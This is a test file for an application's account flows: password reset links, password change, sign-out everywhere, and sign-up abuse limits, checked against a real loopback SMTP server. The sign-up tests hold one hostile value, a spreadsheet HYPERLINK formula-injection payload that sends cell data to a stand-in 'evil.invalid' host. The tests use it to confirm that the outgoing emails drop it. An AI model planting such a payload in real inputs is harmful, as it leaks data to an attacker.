import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { hashPassword, verifyPassword } from "@/lib/auth/password";
import type { ReceivedEmail, SmtpInbox } from "@/lib/notifications/testing/start-smtp-inbox";
import { expireInThePast, uniqueId } from "@/test/fixtures";
import { type MailWorkerFixture, startMailWorkerFixture } from "@/test/mail-worker-fixture";
import type { NotificationTestDatabase } from "@/test/notification-database";
import { changePassword } from "./change-password";
import { registerAccount } from "./register-account";
import { requestPasswordReset } from "./request-password-reset";
import { resetPassword } from "./reset-password";
import { signOutEverywhere } from "./sign-out-everywhere";

// Account emails end to end: the domain call, the job and its notification,
// the worker, a real SMTP server on loopback, and the link in what arrived.

const APP_URL = "http://localhost:3000";
let t: NotificationTestDatabase;
let inbox: SmtpInbox;
let mail: MailWorkerFixture | undefined;

beforeAll(async () => {
  mail = await startMailWorkerFixture({ appUrl: APP_URL });
  ({ t, inbox } = mail);
});
afterAll(() => mail?.stop());

const DEADLINE = { timeout: 20_000, interval: 100 };
const address = () => `${uniqueId("acct")}@example.test`;
const client = () => `203.0.113.${Math.floor(Math.random() * 250) + 1}-${uniqueId("c")}`;

async function mailTo(email: string, count = 1): Promise<ReceivedEmail[]> {
  await expect.poll(() => inbox.to(email).length, DEADLINE).toBe(count);
  return inbox.to(email);
}

function linkIn(message: ReceivedEmail, path: string): URL {
  const match = message.text.match(new RegExp(`${APP_URL}${path}\\S*`));
  if (!match) throw new Error(`no ${path} link in: ${message.text}`);
  return new URL(match[0]);
}

async function userWithPassword(password: string) {
  return t.prisma.user.create({ data: { email: address(), name: "Owner", passwordHash: await hashPassword(password) } });
}

describe("password reset", () => {
  test("the emailed link sets a new password once, ends every session and is then dead", async () => {
    const user = await userWithPassword("old password 1");
    expect(await requestPasswordReset(t.prisma, { email: user.email.toUpperCase(), clientAddress: client() })).toEqual({ queued: true });
    const [message] = await mailTo(user.email);
    expect(message!.subject).toBe("Reset your jtbd password");
    const token = linkIn(message!, "/reset-password/new").searchParams.get("token")!;

    await expect(resetPassword(t.prisma, { token, password: "new password 2" })).resolves.toEqual({ userId: user.id, email: user.email });
    const after = await t.prisma.user.findUniqueOrThrow({ where: { id: user.id } });
    expect(await verifyPassword("new password 2", after.passwordHash)).toBe(true);
    expect(after.sessionVersion).toBe(user.sessionVersion + 1);
    const job = await t.prisma.job.findFirstOrThrow({ where: { jobType: "account.reset-password", targetId: user.id } });
    expect(job).toMatchObject({ status: "completed", completionSource: "user", completedById: user.id });

    await expect(resetPassword(t.prisma, { token, password: "third password 3" })).rejects.toMatchObject({ code: "not_found" });
    expect(await verifyPassword("new password 2", (await t.prisma.user.findUniqueOrThrow({ where: { id: user.id } })).passwordHash)).toBe(
      true,
    );
  });

  test("asking again while a link is pending sends nothing new; an unknown address is answered alike and mailed nothing", async () => {
    const user = await userWithPassword("old password 1");
    await requestPasswordReset(t.prisma, { email: user.email, clientAddress: client() });
    expect(await requestPasswordReset(t.prisma, { email: user.email, clientAddress: client() })).toEqual({ queued: false });
    await mailTo(user.email, 1);
    expect(await t.prisma.job.count({ where: { jobType: "account.reset-password", targetId: user.id } })).toBe(1);

    const nobody = address();
    await expect(requestPasswordReset(t.prisma, { email: nobody, clientAddress: client() })).resolves.toEqual({ queued: false });
    expect(inbox.to(nobody)).toHaveLength(0);
  });

  test("an expired link, a forged one and one for another purpose are refused, and nothing changes", async () => {
    const user = await userWithPassword("old password 1");
    await requestPasswordReset(t.prisma, { email: user.email, clientAddress: client() });
    const [message] = await mailTo(user.email);
    const token = linkIn(message!, "/reset-password/new").searchParams.get("token")!;
    const job = await t.prisma.job.findFirstOrThrow({ where: { jobType: "account.reset-password", targetId: user.id } });
    await expireInThePast(t.prisma, job.id);

    await expect(resetPassword(t.prisma, { token, password: "new password 2" })).rejects.toMatchObject({ code: "not_found" });
    await expect(resetPassword(t.prisma, { token: `${job.id}.${"A".repeat(43)}`, password: "new password 2" })).rejects.toMatchObject({
      code: "not_found",
    });
    await expect(resetPassword(t.prisma, { token, password: "short" })).rejects.toMatchObject({
      code: "invalid_input",
      fieldErrors: { password: [expect.any(String)] },
    });
    expect(await verifyPassword("old password 1", (await t.prisma.user.findUniqueOrThrow({ where: { id: user.id } })).passwordHash)).toBe(
      true,
    );
  });

  test("requests from one client address are limited", async () => {
    const from = client();
    for (let i = 0; i < 10; i++) await requestPasswordReset(t.prisma, { email: address(), clientAddress: from });
    await expect(requestPasswordReset(t.prisma, { email: address(), clientAddress: from })).rejects.toMatchObject({ code: "rate_limited" });
  });
});

describe("change password and sign out everywhere", () => {
  test("a wrong current password is refused at its field; the right one sets the new password, ends other sessions and cancels a pending reset link", async () => {
    const user = await userWithPassword("current password");
    await requestPasswordReset(t.prisma, { email: user.email, clientAddress: client() });
    await expect(changePassword(t.prisma, user.id, { currentPassword: "not it", newPassword: "brand new password" })).rejects.toMatchObject(
      {
        code: "invalid_input",
        fieldErrors: { currentPassword: ["That is not your current password."] },
      },
    );
    await changePassword(t.prisma, user.id, { currentPassword: "current password", newPassword: "brand new password" });
    const after = await t.prisma.user.findUniqueOrThrow({ where: { id: user.id } });
    expect(await verifyPassword("brand new password", after.passwordHash)).toBe(true);
    expect(after.sessionVersion).toBe(user.sessionVersion + 1);
    expect((await t.prisma.job.findFirstOrThrow({ where: { jobType: "account.reset-password", targetId: user.id } })).status).toBe(
      "cancelled",
    );
  });

  test("sign out everywhere raises the session version", async () => {
    const user = await userWithPassword("current password");
    await signOutEverywhere(t.prisma, user.id);
    await signOutEverywhere(t.prisma, user.id);
    expect((await t.prisma.user.findUniqueOrThrow({ where: { id: user.id } })).sessionVersion).toBe(user.sessionVersion + 2);
  });
});

describe("sign-up abuse", () => {
  const HOSTILE_NAME = '=HYPERLINK("http://evil.invalid/?"&A1,"Open")';

  test("a new address gets its account and a verify email that carries nothing the person typed", async () => {
    const email = address();
    const result = await registerAccount(t.prisma, { name: HOSTILE_NAME, email, password: "a long password" }, { clientAddress: client() });
    expect(result.outcome).toBe("created");
    const [message] = await mailTo(email);
    expect(message!.subject).toBe("Verify your email address");
    expect(message!.raw).not.toContain("HYPERLINK");
    expect(message!.raw).not.toContain("evil.invalid");
  });

  test("a taken address gets no second account and no error; its owner is emailed instead, without the typed name", async () => {
    const owner = await userWithPassword("owner password");
    const result = await registerAccount(
      t.prisma,
      { name: HOSTILE_NAME, email: owner.email, password: "a long password" },
      { clientAddress: client() },
    );
    expect(result).toEqual({ outcome: "existing", userId: owner.id });
    expect(await t.prisma.user.count({ where: { email: owner.email } })).toBe(1);
    expect(await verifyPassword("owner password", (await t.prisma.user.findUniqueOrThrow({ where: { id: owner.id } })).passwordHash)).toBe(
      true,
    );
    const [message] = await mailTo(owner.email);
    expect(message!.subject).toBe("Someone tried to sign up with your email address");
    expect(message!.raw).not.toContain("HYPERLINK");
    // A second attempt the same day sends nothing more.
    await registerAccount(t.prisma, { name: "Again", email: owner.email, password: "a long password" }, { clientAddress: client() });
    expect(await t.prisma.job.count({ where: { jobType: "account.sign-up-attempted", targetId: owner.id } })).toBe(1);
  });

  test("sign-ups are limited per email address and per client address", async () => {
    const email = address();
    for (let i = 0; i < 3; i++)
      await registerAccount(t.prisma, { name: "Ann", email, password: "a long password" }, { clientAddress: client() });
    await expect(
      registerAccount(t.prisma, { name: "Ann", email, password: "a long password" }, { clientAddress: client() }),
    ).rejects.toMatchObject({
      code: "rate_limited",
      message: expect.stringContaining("this email address"),
    });

    const from = client();
    for (let i = 0; i < 20; i++)
      await registerAccount(t.prisma, { name: "Bulk", email: address(), password: "a long password" }, { clientAddress: from });
    const before = await t.prisma.user.count();
    await expect(
      registerAccount(t.prisma, { name: "Bulk", email: address(), password: "a long password" }, { clientAddress: from }),
    ).rejects.toMatchObject({
      code: "rate_limited",
      message: expect.stringContaining("your network"),
    });
    expect(await t.prisma.user.count()).toBe(before);
  });
});
